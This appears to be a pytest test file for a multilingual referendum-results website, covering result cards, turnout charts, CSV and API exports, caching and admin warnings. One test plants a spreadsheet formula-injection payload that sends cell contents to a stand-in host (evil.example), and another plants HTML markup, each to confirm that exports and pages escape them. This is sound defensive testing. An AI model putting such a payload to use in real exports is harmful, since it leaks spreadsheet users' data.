"""The result of the vote, turnout through the day and by region: charts, tables, open data, in three languages."""

import csv
import io
import re
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest

from referendum.vote.models import Referendum, Region, RegionalTurnout, TurnoutSnapshot

from .admin_forms import admin_url, form_as_shown
from .pages import page

ALMATY = ZoneInfo("Asia/Almaty")
STATUS = {
    "kk": "2026 жылғы 17 наурыз күні Орталық референдум комиссиясы түпкілікті қорытындыларды белгіледі.",
    "ru": "17 марта 2026 г. Центральная комиссия референдума установила окончательные итоги.",
    "en": "Final results established by the Central Referendum Commission on 17 March 2026.",
}
HISTORY = {
    "kk": "2026 жылғы 16 наурызда алдын ала қорытынды ретінде жариялап, 2026 жылғы 17 наурызда өзгеріссіз",
    "ru": "16 марта 2026 года Комиссия объявила эти числа предварительными итогами, а 17 марта 2026 года без "
    "изменений установила их как окончательные",
    "en": "announced these figures as preliminary on 16 March 2026 and established them as the final results, "
    "unchanged, on 17 March 2026",
}


@pytest.mark.parametrize("language", ["kk", "ru", "en"])
def test_the_home_page_calls_the_results_final_and_puts_them_first(client, seeded, language):
    html = page(client, f"/{language}/")
    card = html.select_one(".result-card")
    text = " ".join(card.get_text(" ", strip=True).split()).replace(" .", ".")
    assert STATUS[language] in text
    assert HISTORY[language] in text  # the announcement of 16 March stays in the results' history
    assert "Official results" not in text and "Официальные итоги" not in text and "Ресми қорытынды" not in text
    # The card, with the question verbatim, comes straight after the page's heading.
    assert html.select_one("main h1").find_next_sibling("section") is card
    question = Referendum.objects.get(slug="constitution-2026")
    assert getattr(question, f"question_{language}") in text


def test_preliminary_results_are_called_preliminary(client, seeded):
    Referendum.objects.filter(slug="constitution-2026").update(results_status="preliminary", results_date="2026-03-16")
    card = page(client, "/en/").select_one(".result-card").get_text(" ", strip=True)
    assert "Preliminary results announced by the Central Referendum Commission on 16 March 2026" in card


@pytest.mark.parametrize(("language", "turnout"), [("kk", "73,12%"), ("ru", "73,12%"), ("en", "73.12%")])
def test_the_parts_of_the_count_add_up_and_numbers_read_as_in_each_language(client, seeded, language, turnout):
    card = page(client, f"/{language}/").select_one(".result-card").get_text(" ", strip=True)
    assert turnout in card
    assert re.search(r"127[\s,\xa0]868", card)
    referendum = Referendum.objects.get(slug="constitution-2026")
    assert referendum.ballots_counted == referendum.participants == 9_127_192
    assert referendum.unaccounted_ballots == 0


def test_the_bars_are_as_long_as_their_figures(client, seeded):
    bars = page(client, "/en/").select(".meter__bar")
    assert [float(bar["width"]) for bar in bars] == [round(600 * 0.731194, 1), round(600 * 0.871533, 1)]
    thresholds = page(client, "/en/").select(".meter__threshold")
    assert {line["x1"] for line in thresholds} == {"300.0"}


def test_the_admin_warns_when_the_parts_do_not_add_up(superuser_client):
    referendum = Referendum.objects.get(slug="constitution-2026")
    url = admin_url(referendum, language="ru")
    data = form_as_shown(superuser_client, url, unestablished_ballots="", results_status="preliminary")
    response = superuser_client.post(url, data, follow=True)
    assert "меньше числа граждан, принявших участие" in response.content.decode()
    assert (
        Referendum.objects.get(slug="constitution-2026").unestablished_ballots is None
    )  # saved all the same: a warning, not a refusal
    data = form_as_shown(superuser_client, url, unestablished_ballots="127868", results_status="final")
    response = superuser_client.post(url, data, follow=True)
    assert "меньше числа граждан, принявших участие" not in response.content.decode()
    assert Referendum.objects.get(slug="constitution-2026").results_status == "final"


@pytest.mark.parametrize("language", ["kk", "ru", "en"])
def test_the_turnout_page_has_the_day_and_the_regions(client, seeded, language):
    html = page(client, f"/{language}/referendums/2026-03-15/turnout/")
    national = html.select("table.data")[0].select("tbody tr")
    assert [row.th.get_text(" ", strip=True)[:5] for row in national] == [
        "10:00",
        "12:00",
        "14:00",
        "16:00",
        "18:00",
        "20:30",
    ]  # 20:00 has figures by region only: it is in the regional section, not in the national table
    marked = html.select_one(".chart__column--marked text.chart__label")
    assert marked.get_text() == "14:00"
    tiles = html.select(".tile-map .tile")
    assert len(tiles) == 20
    unknown = [tile.select_one(".tile__name").get_text() for tile in html.select(".tile--unknown")]
    assert len(unknown) == 2  # no report found at 20:00 for North Kazakhstan and Ulytau
    regions = html.select("table.data")[1].select("tbody tr")
    assert len(regions) == 20


@pytest.mark.parametrize(
    ("language", "heading", "abroad", "source"),
    [
        ("kk", "Дауыс беру учаскелері және сайлаушылар тізімдері", "Шетелдегі учаскелер", "Орталық референдум"),
        ("ru", "Участки референдума и списки избирателей", "Участки референдума за рубежом", "Центральная комиссия"),
        ("en", "Polling stations and voter lists", "Polling stations abroad", "Central Referendum Commission"),
    ],
)
def test_the_turnout_page_names_the_polling_stations_and_the_voter_lists(
    client, seeded, language, heading, abroad, source
):
    html = page(client, f"/{language}/referendums/2026-03-15/turnout/")
    section = html.select_one("#stations-heading").find_parent("section")
    assert section.h2.get_text(strip=True) == heading
    figures = {div.dt.get_text(strip=True): div.dd.get_text(strip=True) for div in section.select("dl div")}
    assert len(figures) == 4
    assert [value.replace("\xa0", " ").replace(",", " ") for value in figures.values()] == [
        "10 388",
        "71",
        "54",
        "12 461 796",
    ]
    assert list(figures)[1].startswith(abroad)
    assert section.select(".source")[-1].get_text(" ", strip=True).split(" ", 1)[1].startswith(source)


def test_without_polling_station_figures_the_turnout_page_leaves_them_out(client, seeded):
    Referendum.objects.filter(slug="constitution-2026").update(
        polling_stations=None, polling_stations_abroad=None, countries_abroad=None, voters_on_lists=None
    )
    html = page(client, "/en/referendums/2026-03-15/turnout/")
    assert html.select_one("#stations-heading") is None
    assert html.h1.get_text(strip=True) == "Turnout through the voting day"


def test_an_unknown_regional_figure_is_unknown_not_zero(client, seeded):
    html = page(client, "/en/referendums/2026-03-15/turnout/?at=2000")
    north = next(row for row in html.select("table.data")[1].select("tbody tr") if "North Kazakhstan" in row.th.text)
    assert north.select("td")[-1].get_text(strip=True) == "unknown"
    tile = next(tile for tile in html.select(".tile") if "North Kazakhstan" in tile.text)
    assert "unknown" in tile.text and "0.00" not in tile.text


def test_the_regional_bars_are_proportional_and_can_be_ordered(client, seeded):
    html = page(client, "/en/referendums/2026-03-15/turnout/?at=1600&sort=turnout")
    chart = html.select(".chart__svg")[1]
    labels = [text.get_text() for text in chart.select("text.chart__label")]
    widths = [float(rect["width"]) for rect in chart.select("rect.chart__bar")]
    assert labels[0] == "Kyzylorda Region: 82.02%"
    assert widths[0] == round(600 * 0.8202, 1)
    assert widths == sorted(widths, reverse=True)


@pytest.mark.parametrize("query", ["?at=0900", "?at=abc", "?sort=random"])
def test_a_bad_choice_is_a_400(client, seeded, query):
    assert client.get("/en/referendums/2026-03-15/turnout/" + query).status_code == 400


def test_the_csv_has_twenty_regions_and_opens_as_utf8(client, seeded):
    response = client.get("/ru/referendums/2026-03-15/turnout/regions.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) == 21
    assert rows[0][0] == "Регион" and len(rows[0]) == 2 + TurnoutSnapshot.objects.count()
    abai = rows[1]
    assert abai[0] == "область Абай" and abai[3] == "41.93" and abai[2] == "17.98"


def test_the_api_gives_the_same_figures(client, seeded):
    data = client.get("/api/v1/referendum/turnout/").json()
    assert len(data["regions"]) == 20
    assert [snapshot["percent"] for snapshot in data["snapshots"]] == [19.21, 37.54, 51.93, 64.43, 70.98, None, 73.24]
    at_eight = {figure["region"] for figure in data["snapshots"][5]["regions"]}
    assert len(at_eight) == 18 and "mangystau" in at_eight and "north-kazakhstan" not in at_eight
    results = client.get("/api/v1/referendum/").json()["results"]
    assert results["status"] == "final" and results["unestablished_ballots"] == 127_868
    assert "/api/v1/referendum/turnout/" in client.get("/api/v1/openapi.json").content.decode()


def test_a_new_snapshot_shows_at_once_through_the_page_cache(client, seeded, page_cache_on):
    client.get("/en/referendums/2026-03-15/turnout/")
    assert client.get("/en/referendums/2026-03-15/turnout/")["X-Cache"] == "hit"
    referendum = Referendum.objects.get(slug="constitution-2026")
    snapshot = TurnoutSnapshot.objects.create(
        referendum=referendum, taken_at=datetime(2026, 3, 15, 21, 0, tzinfo=ALMATY), percent="73.30"
    )
    RegionalTurnout.objects.create(snapshot=snapshot, region=Region.objects.get(slug="almaty"), percent="33.50")
    response = client.get("/en/referendums/2026-03-15/turnout/")
    assert response["X-Cache"] == "miss"
    assert "73.30" in response.content.decode() and "33.50" in response.content.decode()


def test_the_count_by_region_shows_once_staff_enter_it(client, seeded):
    from referendum.vote.models import RegionalResult

    assert "The count by region" not in client.get("/en/referendums/2026-03-15/turnout/").content.decode()
    RegionalResult.objects.create(
        referendum=Referendum.objects.get(slug="constitution-2026"),
        region=Region.objects.get(slug="astana"),
        participants=1000,
        votes_for=800,
        source_name="CRC",
    )
    html = page(client, "/ru/referendums/2026-03-15/turnout/")
    row = html.select_one("#regional-results-heading").find_next("tbody").tr
    assert row.th.get_text(strip=True) == "город Астана"
    assert "80,00%" in row.get_text() and "нет данных" in row.get_text()


def test_a_formula_typed_into_a_region_name_reaches_the_csv_as_text(client, seeded):
    Region.objects.filter(slug="abai").update(name_en='=HYPERLINK("https://evil.example/?"&A1,"Official")')
    rows = list(
        csv.reader(
            io.StringIO(client.get("/en/referendums/2026-03-15/turnout/regions.csv").content.decode("utf-8-sig"))
        )
    )
    assert rows[1][0].startswith("'=HYPERLINK")


def test_the_card_says_of_the_unestablished_ballots_only_what_the_announcement_says(client, seeded):
    card = page(client, "/en/").select_one(".result-card").get_text(" ", strip=True)
    assert "reported these ballots separately from the votes and the invalid ballots" in card
    assert "neither valid nor invalid" not in card


def test_the_turnout_page_costs_the_same_few_queries_however_many_regions_report(
    client, seeded, django_assert_max_num_queries, django_assert_num_queries
):
    with django_assert_max_num_queries(6) as before:
        assert client.get("/en/referendums/2026-03-15/turnout/").status_code == 200
    snapshot = TurnoutSnapshot.objects.create(
        referendum=Referendum.objects.get(slug="constitution-2026"),
        taken_at=datetime(2026, 3, 15, 21, 0, tzinfo=ALMATY),
    )
    RegionalTurnout.objects.bulk_create(
        RegionalTurnout(snapshot=snapshot, region=region, percent="50.00") for region in Region.objects.all()
    )
    with django_assert_num_queries(len(before)):
        assert client.get("/en/referendums/2026-03-15/turnout/").status_code == 200


def test_a_region_name_shown_in_a_fallback_language_is_marked_in_the_sentence_and_the_chart(client, seeded):
    Region.objects.filter(slug__in=["kyzylorda", "almaty"]).update(name_en="")  # highest and lowest at 16:00
    html = page(client, "/en/referendums/2026-03-15/turnout/?at=1600")
    names = [(span["lang"], span.get_text()) for span in html.select("#regions-heading ~ p span[lang]")]
    assert names == [("ru", "Кызылординская область"), ("ru", "город Алматы")]  # "Highest: …. Lowest: …."
    labels = [(tspan["lang"], tspan.get_text()) for tspan in html.select("text.chart__label tspan[lang]")]
    assert sorted(labels) == [("ru", "Кызылординская область"), ("ru", "город Алматы")]
    assert html.select_one(".tile-map [lang]").get_text() == "Кызылординская область"


@pytest.mark.parametrize("falls_back", [True, False])
def test_markup_typed_into_a_region_name_is_shown_as_text_in_the_sentence_and_the_chart(client, seeded, falls_back):
    markup = "<b>Kyzylorda</b>"
    Region.objects.filter(slug="kyzylorda").update(name_ru=markup, name_en="" if falls_back else markup)
    response = client.get("/en/referendums/2026-03-15/turnout/?at=1600")
    assert b"<b>Kyzylorda" not in response.content
    html = page(client, "/en/referendums/2026-03-15/turnout/?at=1600")
    assert markup in html.select_one("#regions-heading ~ p").get_text()
    assert any(tspan.get_text() == markup for tspan in html.select("text.chart__label tspan"))
